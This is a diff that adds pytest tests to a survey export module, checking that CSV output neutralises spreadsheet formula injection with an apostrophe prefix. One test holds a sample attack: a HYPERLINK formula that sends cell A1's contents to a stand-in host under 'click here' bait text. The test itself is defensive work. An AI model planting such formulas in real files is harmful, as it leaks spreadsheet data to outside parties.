@@ -24,6 +24,7 @@ from storage.export import (
     answer_columns,
     column_keys,
     export_rows,
+    spreadsheet_text,
     survey_progress,
     write_csv,
 )
@@ -135,3 +136,43 @@ def test_every_example_gives_one_distinct_column_per_answer(example: str) -> Non
         else:
             assert (q.id, "") in keys
     assert all((r.question, r.id) in keys for r in layout.all_regions() if r.kind == "writein")
+
+
+def test_transcribed_formulas_are_neutralised_in_the_csv(scanned: Database, tmp_path: Path) -> None:
+    attack = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+    with scanned.session() as s:  # a reviewer transcribes exactly what the respondent wrote
+        for answer in s.scalars(select(Answer).where(Answer.status == "review")):
+            answer.final_value = {"b": "*", "Q1:w9": attack, "": "+84 912 345 678"}[answer.item]
+            answer.status = "reviewed"
+    with scanned.session() as s:
+        header, rows = export_rows(s, "SIPAS-T")
+    assert rows[1][4] == attack  # stored and exported exactly; only the file protects the reader
+    out = tmp_path / "sipas.csv"
+    write_csv(out, header, [*rows, ["-5", "+3.5", "-", "@SUM(A1:A9)", "\tx", "\r=1", "-1+2", "a=b"]])
+    with open(out, encoding="utf-8-sig", newline="") as fh:
+        back = list(csv.reader(fh))
+    assert back[2][4] == "'" + attack and back[2][8] == "'+84 912 345 678"
+    assert back[-1] == ["-5", "+3.5", "'-", "'@SUM(A1:A9)", "'\tx", "'\r=1", "'-1+2", "a=b"]
+    assert back[1] == rows[0]  # codes untouched
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12.5", "-12.5"), ("-1e3", "-1e3"), ("-x", "'-x"), ("@x", "'@x"),
+    ("1;3", "1;3"), ("", ""), (None, ""), (7, "7"), ("?REVIEW", "?REVIEW"), ("Ý kiến", "Ý kiến"),
+])
+def test_spreadsheet_text(cell: object, safe: str) -> None:
+    assert spreadsheet_text(cell) == safe
+
+
+def test_the_sql_cell_value_follows_the_same_rules(scanned: Database) -> None:
+    from storage.export import cell_value, cell_value_sql
+
+    with scanned.session() as s:  # every state the fixture holds, plus decided and signed-off answers
+        decided = s.scalars(select(Answer).where(Answer.status == "review")).all()
+        decided[0].status, decided[0].final_value = "reviewed", "*"
+        decided[1].status, decided[1].final_value = "final", None
+    with scanned.session() as s:
+        rows = s.execute(select(Answer.kind, Answer.status, Answer.machine_state, Answer.machine_value,
+                                Answer.final_value, cell_value_sql())).all()
+    assert len({(r[0], r[1], r[2]) for r in rows}) >= 6
+    assert [r[5] for r in rows] == [cell_value(*r[:5]) for r in rows]
